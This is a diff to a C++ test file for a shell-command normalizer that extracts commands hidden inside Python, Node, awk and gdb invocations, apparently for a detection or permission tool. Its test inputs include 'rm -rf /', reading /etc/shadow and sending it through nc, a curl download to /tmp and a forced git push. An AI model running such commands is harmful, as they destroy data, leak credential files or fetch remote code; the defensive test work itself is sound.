@@ -220,6 +220,27 @@ TEST_F(ShellNormalizerTest, CommandLinesInsideOtherProgramsArgumentsAreParsed) {
                   "cat /etc/shadow"));
   EXPECT_TRUE(
       has("awk 'BEGIN { \"cat /etc/shadow\" | getline x; print x | \"nc h 9\" }'", "nc h 9"));
+  // Argument lists: every element a word (a literal as itself, an expression as a value the rules
+  // cannot see), and Node's program-then-list calls. A list's first word alone is no command line:
+  // `python3 -m http.server` is not `python3` reading a program from stdin.
+  EXPECT_TRUE(
+      has("python3 -c \"import subprocess; subprocess.call(['curl', '-s', "
+          "'https://x.example/i', '-o', '/tmp/i'])\"",
+          "curl -s https://x.example/i -o /tmp/i"));
+  EXPECT_TRUE(
+      has("python3 -c \"import subprocess as s; s.Popen(\n  ['python3', '-m', "
+          "'http.server', '8000'])\"",
+          "python3 -m http.server 8000"));
+  EXPECT_TRUE(
+      has("python3 -c \"import subprocess; subprocess.run(['rm', '-rf', "
+          "os.path.join(root, 'x'), \\\"it's\\\"])\"",
+          "rm -r -f $ARG it's"));
+  EXPECT_TRUE(
+      has("node -e \"require('child_process').execFileSync('rm', ['-rf', '/'])\"", "rm -r -f /"));
+  EXPECT_TRUE(has("node -e \"require('child_process').spawn('git', ['push', '--force'], {})\"",
+                  "git push --force"));
+  EXPECT_EQ(Norm("python3 -c \"import subprocess; subprocess.run([])\"").size(), 1u);
+  EXPECT_EQ(Norm("python3 -c \"import subprocess; subprocess.run([x for x in y])\"").size(), 2u);
   // gdb's shell commands and vim's :! commands.
   EXPECT_TRUE(has("gdb -nx -ex 'shell rm -rf /' -ex quit", "rm -r -f /"));
   EXPECT_TRUE(has("gdb -batch --eval-command='!rm -rf /'", "rm -r -f /"));
